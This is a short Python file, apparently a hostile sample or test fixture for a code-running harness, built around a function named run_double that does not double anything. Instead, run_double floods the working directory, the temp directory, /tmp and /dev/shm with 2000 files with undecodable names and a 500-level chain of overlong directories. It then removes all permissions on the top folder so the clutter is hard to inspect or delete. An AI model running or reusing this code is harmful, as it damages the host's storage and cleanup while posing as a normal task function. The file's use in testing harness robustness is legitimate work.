"""Leaves thousands of files and folders, deep ones and ones that nobody may look into."""

import os
import tempfile

from accomplice import HINTS


def fill(folder):
    top = os.path.join(folder, f"{HINTS['marker']}-many")
    os.mkdir(top)
    for number in range(2000):
        open(os.path.join(top, f"{number}-\udcff"), "w").close()
    here = os.open(top, os.O_RDONLY)
    for _ in range(500):
        os.mkdir("d" * 200, dir_fd=here)
        below = os.open("d" * 200, os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = below
    os.close(here)
    os.chmod(top, 0)


def run_double(x):
    for folder in (".", tempfile.gettempdir(), "/tmp", "/dev/shm"):
        try:
            fill(folder)
        except OSError:
            continue
    return None


def run_count(x):
    return x.numel()
